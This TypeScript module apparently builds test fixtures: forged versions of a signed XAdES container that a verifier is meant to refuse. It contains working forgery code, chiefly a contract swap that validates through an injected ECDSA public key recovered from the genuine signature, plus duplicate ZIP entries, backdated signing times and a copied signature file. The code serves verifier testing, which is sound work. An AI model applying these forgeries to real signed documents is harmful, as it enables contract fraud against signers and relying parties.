import { createHash, createPublicKey, webcrypto } from 'node:crypto';
import { p256, p384 } from '@noble/curves/nist.js';
import { strFromU8, strToU8, unzipSync } from 'fflate';
import { KeyValue } from 'xmldsigjs';
import { NS, onlyElement, parseXml, serializeXml, xadesjs, type Document, type Element } from '../modules/signing/container/xml-library.js';
import { writeZip, type RawEntry } from './zip-writer.js';

/*
 * Forgeries of a signed container, each made as an attacker holding only a
 * genuine container would make it. Every forged ZIP keeps mimetype first and
 * stored, so each forgery is refused for what it forges and not for that.
 */

export type ContainerEntry = { name: string; content: Uint8Array };

export const SIGNATURES = 'META-INF/signatures0.xml';
export const MANIFEST = 'META-INF/manifest.xml';
export const ANOTHER_CONTRACT = strToU8('%PDF-1.7\n% another contract: the bank pays the customer\n');

/** The entries of a genuine container, in order. */
export const entriesOf = (container: Uint8Array): ContainerEntry[] =>
  Object.entries(unzipSync(new Uint8Array(container))).map(([name, content]) => ({ name, content }));

export const zipOf = (entries: readonly ContainerEntry[]): Uint8Array =>
  writeZip(entries.map((entry): RawEntry => ({ ...entry, method: entry.name === 'mimetype' ? 0 : 8 })));

const contentOf = (entries: readonly ContainerEntry[], name: string): Uint8Array => entries.find((entry) => entry.name === name)?.content ?? new Uint8Array();
export const documentNameOf = (entries: readonly ContainerEntry[]): string => entries.find((entry) => entry.name.endsWith('.pdf'))?.name ?? '';

const replaced = (entries: readonly ContainerEntry[], name: string, content: Uint8Array): ContainerEntry[] =>
  entries.map((entry) => (entry.name === name ? { name, content } : entry));

/** The container with signatures0.xml changed in its DOM by `edit`. */
async function withSignatures(
  entries: readonly ContainerEntry[],
  edit: (document: Document, signature: Element) => void | Promise<void>,
): Promise<ContainerEntry[]> {
  const document = parseXml(strFromU8(contentOf(entries, SIGNATURES)));
  const signature = onlyElement(document, NS.ds, 'Signature');
  if (!signature) throw new Error('no signature');
  await edit(document, signature);
  return replaced(entries, SIGNATURES, strToU8(serializeXml(document)));
}

const element = (root: Document | Element, namespace: string, name: string): Element => {
  const found = onlyElement(root, namespace, name);
  if (!found) throw new Error(`no single ${name}`);
  return found;
};

/** The canonical SignedInfo, computed as xmldsigjs computes it when it verifies. */
class SignedInfoReader extends xadesjs.SignedXml {
  canonicalSignedInfo(document: Document): string {
    return this.TransformSignedInfo(document as never);
  }
}

const CURVES = { 'P-256': p256, 'P-384': p384 } as const;

/**
 * The attack as reported: the contract replaced, its DigestValue updated,
 * and a KeyValue added to KeyInfo holding the public key under which the
 * genuine ECDSA (r, s) verifies over the new SignedInfo. That key is
 * recovered from (r, s) and the new SignedInfo's hash, as ECDSA allows for
 * any message; nobody's private key is needed. The time-stamp covers only
 * the unchanged SignatureValue and the OCSP answer the unchanged
 * certificate, so both stay valid.
 */
export async function injectRecoveredKey(entries: readonly ContainerEntry[]): Promise<{ entries: ContainerEntry[]; injectedKey: webcrypto.CryptoKey }> {
  const documentName = documentNameOf(entries);
  let injectedKey: webcrypto.CryptoKey | undefined;
  const forged = await withSignatures(replaced(entries, documentName, ANOTHER_CONTRACT), async (document, signature) => {
    const reference = [...signature.getElementsByTagNameNS(NS.ds, 'Reference')].find((candidate) => candidate.getAttribute('URI') === documentName);
    if (!reference) throw new Error('no document reference');
    element(reference, NS.ds, 'DigestValue').textContent = createHash('sha256').update(ANOTHER_CONTRACT).digest('base64');

    const reader = new SignedInfoReader(document as never);
    reader.LoadXml(signature as never);
    const canonical = reader.canonicalSignedInfo(document);
    const hash = createHash('sha256').update(canonical, 'utf8').digest();
    const value = Buffer.from(element(signature, NS.ds, 'SignatureValue').textContent ?? '', 'base64');
    const curveName = value.length === 96 ? 'P-384' : 'P-256';
    const point = CURVES[curveName].Signature.fromBytes(value, 'compact').addRecoveryBit(0).recoverPublicKey(hash).toBytes(false);
    const size = (point.length - 1) / 2;
    const jwk = {
      kty: 'EC',
      crv: curveName,
      x: Buffer.from(point.subarray(1, 1 + size)).toString('base64url'),
      y: Buffer.from(point.subarray(1 + size)).toString('base64url'),
    };
    const key = await webcrypto.subtle.importKey(
      'jwk',
      createPublicKey({ key: jwk, format: 'jwk' }).export({ format: 'jwk' }),
      { name: 'ECDSA', namedCurve: curveName },
      true,
      ['verify'],
    );
    // The forgery is only worth testing if it is real: the genuine value verifies over the forged SignedInfo with this key.
    const verifies = await webcrypto.subtle.verify({ name: 'ECDSA', hash: 'SHA-256' }, key, value, Buffer.from(canonical, 'utf8'));
    if (!verifies) throw new Error('the recovered key does not verify the forged SignedInfo');
    injectedKey = key;

    const keyValue = new KeyValue();
    await keyValue.importKey(key);
    const xml = keyValue.GetXml();
    if (!xml) throw new Error('xmldsigjs made no KeyValue');
    element(signature, NS.ds, 'KeyInfo').appendChild(document.importNode(xml as never, true));
  });
  if (!injectedKey) throw new Error('no key was injected');
  return { entries: forged, injectedKey };
}

/** A second certificate in X509Data, before the signer's: the issuer's, taken from CertificateValues. */
export const addSecondCertificate = (entries: readonly ContainerEntry[]): Promise<ContainerEntry[]> =>
  withSignatures(entries, (document, signature) => {
    const issuer = element(signature, NS.xades, 'EncapsulatedX509Certificate').textContent ?? '';
    const x509Data = element(signature, NS.ds, 'X509Data');
    const certificate = document.createElementNS(NS.ds, 'ds:X509Certificate');
    certificate.textContent = issuer;
    x509Data.insertBefore(certificate, x509Data.firstChild);
  });

/** The contract replaced, its DigestValue left as signed. */
export const replaceDocument = (entries: readonly ContainerEntry[]): ContainerEntry[] => replaced(entries, documentNameOf(entries), ANOTHER_CONTRACT);

/** The signing time moved a year back, the SignedProperties' digest left as signed. */
export const backdateSigningTime = (entries: readonly ContainerEntry[]): Promise<ContainerEntry[]> =>
  withSignatures(entries, (_, signature) => {
    const time = element(signature, NS.xades, 'SigningTime');
    const signed = new Date(time.textContent ?? '');
    time.textContent = new Date(signed.getTime() - 365 * 24 * 3600_000).toISOString();
  });

/**
 * Two entries named as the contract: the forged one first, the signed one
 * last. A reader that keeps the last entry of a name judges the signed
 * contract; a streaming reader, and what it extracts, shows the forged one.
 */
export function duplicateDocument(entries: readonly ContainerEntry[]): { zip: Uint8Array; firstEntries: Record<string, Uint8Array> } {
  const documentName = documentNameOf(entries);
  const [mimetype, ...rest] = entries;
  if (!mimetype) throw new Error('no entries');
  const forgedFirst = [
    mimetype,
    { name: documentName, content: ANOTHER_CONTRACT },
    ...rest.filter((entry) => entry.name !== documentName),
    ...rest.filter((entry) => entry.name === documentName),
  ];
  const firstEntries: Record<string, Uint8Array> = {};
  for (const { name, content } of forgedFirst) firstEntries[name] ??= content;
  return { zip: zipOf(forgedFirst), firstEntries };
}

/**
 * signatures0.xml copied as META-INF/signatures1.xml: a second signature file
 * that verifies on its own, as if a second board member had signed. It is
 * the same signer's signature again, and must count as no second signer.
 */
export const copySignatureFile = (entries: readonly ContainerEntry[]): ContainerEntry[] => [
  ...entries,
  { name: 'META-INF/signatures1.xml', content: contentOf(entries, SIGNATURES) },
];

/** A file no signature covers, listed in the manifest as a careful forger would. */
export function addUnsignedFile(entries: readonly ContainerEntry[]): ContainerEntry[] {
  const manifest = strFromU8(contentOf(entries, MANIFEST)).replace(
    '</manifest:manifest>',
    '<manifest:file-entry manifest:full-path="annex.pdf" manifest:media-type="application/pdf"/></manifest:manifest>',
  );
  return [...replaced(entries, MANIFEST, strToU8(manifest)), { name: 'annex.pdf', content: ANOTHER_CONTRACT }];
}

/** mimetype moved from first to last. */
export const moveMimetype = (entries: readonly ContainerEntry[]): ContainerEntry[] => [
  ...entries.filter((entry) => entry.name !== 'mimetype'),
  ...entries.filter((entry) => entry.name === 'mimetype'),
];
